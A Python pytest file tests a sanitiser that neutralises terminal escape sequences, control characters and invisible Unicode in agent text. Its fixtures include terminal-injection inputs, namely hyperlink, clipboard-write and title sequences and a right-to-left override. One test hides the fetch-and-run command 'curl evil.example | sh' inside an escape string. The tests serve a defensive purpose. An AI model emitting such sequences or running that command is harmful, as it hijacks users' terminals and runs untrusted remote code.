"""neutralize: nothing in agent text can drive the terminal, and nothing is silently lost."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from linewise.settings.sanitising import neutralize


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text\twith tab\nand newline", "plain text\twith tab\nand newline"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b[2J\x1b[H cleared", " cleared"),
        # OSC, DCS, PM and APC strings: the sequence is neutralised, the payload shown.
        ("\x1b]0;pwned title\x07after", "␛]0;pwned title␇after"),
        (
            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
            "␛]8;;https://evil.example␛\\click␛]8;;␛\\",
        ),
        ("\x1b]52;c;ZXZpbA==\x07clipboard", "␛]52;c;ZXZpbA==␇clipboard"),
        ("\x1bPq#0;2;0;0;0\x1b\\sixel", "␛Pq#0;2;0;0;0␛\\sixel"),
        ("\x1b^private\x1b\\", "␛^private␛\\"),
        ("\x1b_app\x9c", "␛_app<U+009C>"),
        ("\x9d0;eight-bit\x07", "<U+009D>0;eight-bit␇"),
        ("\x9b31mC1 CSI", "C1 CSI"),
        ("bell\x07", "bell␇"),
        ("over\rwrite", "over␍write"),
        ("back\x08space", "back␈space"),
        ("nul\x00byte", "nul␀byte"),
        ("del\x7f", "del␡"),
        ("\u202egnp.exe", "<U+202E>gnp.exe"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
        ("unterminated \x1b]0;title", "unterminated ␛]0;title"),
        # A CSI sequence that is not colour or cursor movement keeps its bytes on screen.
        ("i.sh\x1b[ | sh", "i.sh␛[ | sh"),
        ("\x1b[6n asks the terminal", "␛[6n asks the terminal"),
        ("\x1b[?25lspinner\x1b[?25h\x1b[2K", "spinner"),
        # Invisible characters, bidirectional marks and tag characters are shown.
        ("zero\u200bwidth", "zero<U+200B>width"),
        ("\u200ehidden mark", "<U+200E>hidden mark"),
        ("a\u200db", "a<U+200D>b"),
        ("x\U000e0068\U000e0069y", "x<tags:hi>y"),
        ("lone cancel \U000e007f", "lone cancel <U+E007F>"),
    ],
)
def test_neutralize(text: str, shown: str) -> None:
    assert neutralize(text) == shown


@given(st.text())
def test_output_never_contains_a_control_character_but_newline_and_tab(text: str) -> None:
    out = neutralize(text)
    assert not any(
        (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0 or 0xD800 <= ord(c) < 0xE000
        for c in out
    )
    out.encode("utf-8")


def test_a_hidden_command_stays_visible() -> None:
    # A terminal string swallowing the rest of a line must not hide it from the reader.
    shown = neutralize("ls -la \x1b]0;\x07 curl evil.example | sh\x1b\\ and then I deleted it")
    assert "curl evil.example | sh" in shown and "and then I deleted it" in shown
    assert "\x1b" not in shown and "\x07" not in shown


def test_neutralize_is_linear() -> None:
    # One regex runs on agent text here; its classes are disjoint, so time grows with size.
    from scaling import assert_linear_time

    assert_linear_time(lambda n: neutralize("\x1b[" + "1;" * n + "\x1b]" * n + "\x9b" * n))


_INVISIBLE = [
    *range(0x200B, 0x2010),
    *range(0x202A, 0x202F),
    *range(0x2060, 0x2065),
    *range(0x2066, 0x2070),
    0xFEFF,
    0x061C,
    *range(0xE0000, 0xE0080),
]


@given(st.text(alphabet=st.sampled_from([*map(chr, _INVISIBLE), "a", " ", "\u00e9"])))
def test_no_invisible_character_is_left_outside_emoji(text: str) -> None:
    assert not set(neutralize(text)) & set(map(chr, _INVISIBLE))


def test_hidden_text_neutralising_is_linear() -> None:
    from scaling import assert_linear_time

    tags = "\U000e0061" * 7 + "\U000e007f"
    assert_linear_time(lambda n: neutralize(("\U0001f3f4" + tags + "\u200d") * n))


def test_ascii_text_is_checked_by_the_same_rule_as_any_other() -> None:
    # neutralize looks at ASCII text through a smaller class of characters (it is faster):
    # each ASCII character is left alone exactly when the whole rule leaves it alone.
    from linewise.settings import sanitising

    for code in range(128):
        text = f"a{chr(code)}b"
        whole_rule_finds = sanitising.rules().unsafe.search(text) is not None
        assert (neutralize(text) != text) == whole_rule_finds, repr(text)


@given(st.text(alphabet=st.characters(max_codepoint=127)))
def test_ascii_text_is_neutralised_as_before(text: str) -> None:
    from linewise.settings import sanitising

    rules = sanitising.rules()
    whole = rules.hidden.sub(sanitising._shown, rules.csi.sub("", text))
    assert neutralize(text) == whole.translate(rules.table)
